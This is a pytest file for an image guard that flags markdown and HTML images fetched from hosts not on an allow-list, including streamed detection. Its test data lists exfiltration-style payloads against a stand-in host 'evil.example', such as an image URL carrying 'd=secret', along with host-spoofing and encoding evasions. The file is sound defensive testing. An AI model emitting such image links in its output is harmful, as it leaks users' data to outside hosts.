"""Images a viewer would fetch from elsewhere."""

import pytest

from appliance.redaction.guards.images import ImageWatch, fetches_foreign, foreign_image
from tests.fakes.leaf import a_leaf

HOSTS = frozenset({"img.example.org", ".cdn.example.org"})
FOREIGN = [
    "![x](https://evil.example/a?d=secret)",
    "![x]( <https://evil.example/a> 'title')",
    "![x](//evil.example/a)",
    "![x](https:evil.example/a)",
    "![x](https:\\\\evil.example\\a)",
    "![x](HTTPS://EVIL.example)",
    "![x](https://img.example.org@evil.example/a)",
    "![x](https://img.example.org.evil.example/a)",
    "![x](https://cdn.example.org/a)",  # only what lies below it is listed
    "![x](&#104;ttps://evil.example/a)",
    "![a [nested] alt](https://evil.example/a)",
    "![x][ref]\n\n[ref]: https://evil.example/a",
    "<img src=https://evil.example/a>",
    "<IMG\nalt='x' SRC = 'https://evil.example/a'>",
    "<source srcset='https://evil.example/a 2x'>",
    '<video poster="//evil.example/a">',
    "![x](ftp://evil.example/a)",
    "![x](https://\tevil.example/a)".replace("\t", ""),
]


@pytest.mark.parametrize("text", FOREIGN)
def test_an_image_from_elsewhere_is_seen(text: str) -> None:
    assert fetches_foreign(f"see {text} there", HOSTS)
    assert foreign_image(HOSTS)(a_leaf(text))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://img.example.org/a.png)",
        "![x](https://img.example.org:8443/a.png)",
        "![x](http://a.cdn.example.org./a.png)",
        "![x](/local/a.png)",
        "![x](a.png)",
        "![x](data:image/png;base64,AAAA)",
        "<img src='/a.png'>",
        "[a link](https://evil.example/) is followed by nobody",
        "a[i](x) and b![](",
        "<a href='https://evil.example'>",
        "a < b and src=https://evil.example/a",
    ],
)
def test_what_is_listed_local_or_no_image_raises_nothing(text: str) -> None:
    assert not fetches_foreign(text, HOSTS)


@pytest.mark.parametrize("text", FOREIGN)
@pytest.mark.parametrize("size", [1, 2, 7])
def test_in_a_stream_an_image_is_seen_by_its_last_piece(text: str, size: int) -> None:
    watch = ImageWatch(HOSTS)

    seen = [watch.feed(text[at : at + size]) for at in range(0, len(text), size)]

    assert seen[-1] or any(seen)


def test_a_stream_without_images_raises_nothing() -> None:
    watch = ImageWatch(HOSTS)

    assert not any(watch.feed(piece) for piece in ["a ![x](", "https://img.example.org/", "a.png) ", "b"] * 1000)
